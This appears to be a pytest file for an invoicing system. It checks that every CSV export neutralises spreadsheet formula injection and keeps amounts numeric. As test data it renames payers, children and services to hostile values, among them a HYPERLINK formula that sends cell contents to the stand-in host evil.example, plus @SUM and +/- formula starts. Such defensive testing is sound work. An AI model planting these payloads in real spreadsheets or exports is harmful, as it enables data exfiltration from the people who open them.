"""No CSV Lantern writes runs a formula (issue 20, seen 2): names and references that a spreadsheet would read as a
formula arrive in every export as text behind a single quote, while amounts, negative ones too, stay numbers; and
no module but provider/csv_out.py writes CSV.
"""
from __future__ import annotations

import ast
import csv
import io
import re
from datetime import date
from decimal import Decimal
from pathlib import Path

import pytest
from sqlmodel import select

from invoicing.activity import activity_csv, activity_return, quarter_bounds
from invoicing.backing import backing_csv, backing_rows
from invoicing.models import Invoice
from invoicing.payments import exports
from invoicing.payments.service import PaymentIn, allocate, record_payment
from invoicing.runs import issue_run, month_bounds
from isf.monitoring import monitoring_csv, monitoring_return
from provider.catalogue.models import Service
from provider.csv_out import Figure, amount, csv_text
from provider.db import unit_of_work
from provider.funders.models import Funder
from provider.funding.models import BlockContract
from provider.organisation.models import AccountPurpose, BankAccount
from provider.people.models import Child
from reports.care import care, tables
from reports.cli import csv_text as income_csv, table_csv
from reports.income import statutory_income
from tests.conftest import demo_once_per_module

ROOT = Path(__file__).resolve().parent.parent
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
HOSTILE = [HYPERLINK, "+1", "-2+3", "@SUM(A1)", "\tTAB", "\rCR"]
PLAIN_NUMBER = re.compile(r"-?\d+(\.\d+)?")
TODAY = date(2027, 4, 10)

demo_connection, connection = demo_once_per_module(invoicing=False, grants=False)


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def assert_neutralised(text: str, planted: list[str]) -> None:
    """Each planted value arrives behind a quote, and no cell but a plain number starts as a formula would."""
    found = cells(text)
    for value in planted:
        assert "'" + value in found, (value, found)
    runnable = [c for c in found if c[:1] in ("=", "+", "-", "@", "\t", "\r") and not PLAIN_NUMBER.fullmatch(c)]
    assert runnable == []


def one(db, model, **where):
    return db.exec(select(model).filter_by(**where)).one()


def rename(db, row, **values) -> None:
    with unit_of_work(db):
        for name, value in values.items():
            setattr(row, name, value)
        db.add(row)


@pytest.fixture
def hostile(db):
    """The demo with October 2026 issued after its payers, a child and a service took hostile names, and Riverside
    ICB paying with a remittance reference that reads as a formula."""
    rename(db, one(db, Funder, name="Riverside ICB"), name=HYPERLINK)
    rename(db, one(db, Funder, name="Northshire County Council"), name="+1")
    rename(db, one(db, Service, name="Short-break night"), name="-2+3")
    rename(db, one(db, Child, first_name="Benjamin"), first_name="@SUM(A1)")
    rename(db, one(db, Child, first_name="Amira"), first_name="\rCR")
    with unit_of_work(db):
        issued = issue_run(db, *month_bounds("2026-10")).issued
    riverside = next(i for i in issued if i.payer_name.startswith("=HYPERLINK"))
    bank = db.exec(select(BankAccount).where(BankAccount.purpose == AccountPurpose.operating)).one()
    with unit_of_work(db):
        payment = record_payment(db, PaymentIn(riverside.payer_ref, bank.id, TODAY, riverside.total_pence,
                                               "bank_transfer", "@SUM(A1) " + riverside.number), TODAY)
        allocate(db, payment, {riverside.id: riverside.total_pence}, TODAY)
    return riverside


def test_the_xero_export_quotes_a_payer_named_as_a_formula_and_keeps_a_credit_s_minus(db, hostile):
    text = exports.xero_csv(db, TODAY, TODAY)
    assert_neutralised(text, [HYPERLINK])
    header, *rows = list(csv.reader(io.StringIO(text)))
    riverside = next(dict(zip(header, r)) for r in rows if r[0] == "'" + HYPERLINK)
    assert riverside["*UnitAmount"] == "720.00" and riverside["*InvoiceNumber"] == hostile.number


def test_the_sage_export_quotes_the_references_and_keeps_amounts_as_numbers(db, hostile):
    text = exports.sage_csv(db, TODAY, TODAY)
    assert_neutralised(text, ["@SUM(A1) " + hostile.number])
    assert "2160.00" in cells(text)


def test_the_payments_export_quotes_the_payer_and_the_bank_s_remittance_text(db, hostile):
    text = exports.payments_csv(db, TODAY, TODAY)
    assert_neutralised(text, [HYPERLINK, "@SUM(A1) " + hostile.number])
    header, row = list(csv.reader(io.StringIO(text)))
    assert dict(zip(header, row))["Amount"] == "2160.00"


def test_the_backing_schedule_quotes_the_child_s_name_and_the_service(db, hostile):
    text = backing_csv(backing_rows(db, hostile))
    assert_neutralised(text, ["@SUM(A1) Carter", "-2+3"])
    assert text.splitlines()[1].endswith(",1,720.00")


def test_the_activity_return_quotes_a_service_named_as_a_formula(db, hostile):
    contract = one(db, BlockContract, reference="NCC-SB-2627")
    text = activity_csv(activity_return(db, contract, *quarter_bounds("2026-Q3")))
    assert_neutralised(text, ["-2+3"])


def test_the_isf_monitoring_return_quotes_the_child_s_name(db, hostile):
    text = monitoring_csv(monitoring_return(db, date(2026, 4, 1), date(2027, 3, 31), TODAY))
    assert_neutralised(text, ["\rCR Haddad"])


def test_the_trustees_contract_table_quotes_the_funder_s_name(db, hostile):
    found = tables(care(db, date(2026, 4, 1), date(2027, 3, 31)), plain=True)
    assert_neutralised(table_csv(found["contracts"]), ["+1, Children's Social Care"])


def test_the_statutory_income_csv_quotes_the_payers_names(db, hostile):
    text = income_csv(statutory_income(db, date(2026, 4, 1), date(2027, 3, 31)))
    assert_neutralised(text, [HYPERLINK, "+1"])


def test_the_writer_quotes_every_formula_start_and_leaves_figures_and_plain_text_alone():
    text = csv_text(["name", "amount", "units"], [[value, amount(-1250), -3] for value in HOSTILE]
                    + [["Amira Haddad", Figure("0.50"), Decimal("-1.5")]])
    assert list(csv.reader(io.StringIO(text, newline=""))) == [
        ["name", "amount", "units"], *[["'" + value, "-12.50", "-3"] for value in HOSTILE],
        ["Amira Haddad", "0.50", "-1.5"]]


def test_no_text_can_pass_for_a_figure():
    for text in ("=1+1", "-2+3", "1e5", "12.50 ", ""):
        with pytest.raises(ValueError):
            Figure(text)


def _writes_csv(path: Path) -> bool:
    tree = ast.parse(path.read_text())
    names = {a.asname or a.name for node in ast.walk(tree) if isinstance(node, ast.Import)
             for a in node.names if a.name == "csv"}
    imported = any(isinstance(node, ast.ImportFrom) and node.module == "csv" and
                   any(a.name in ("writer", "DictWriter") for a in node.names) for node in ast.walk(tree))
    return imported or any(isinstance(node, ast.Attribute) and node.attr in ("writer", "DictWriter")
                           and isinstance(node.value, ast.Name) and node.value.id in names for node in ast.walk(tree))


def test_no_module_but_the_one_writer_writes_csv():
    # bench/bank_import.py writes a bank's statement, an input Lantern imports, as a bank writes it.
    allowed = {"provider/csv_out.py", "bench/bank_import.py"}
    found = [str(path.relative_to(ROOT)) for package in ("provider", "invoicing", "isf", "reports", "lantern", "bench")
             for path in (ROOT / package).rglob("*.py") if _writes_csv(path)]
    assert sorted(found) == sorted(allowed)
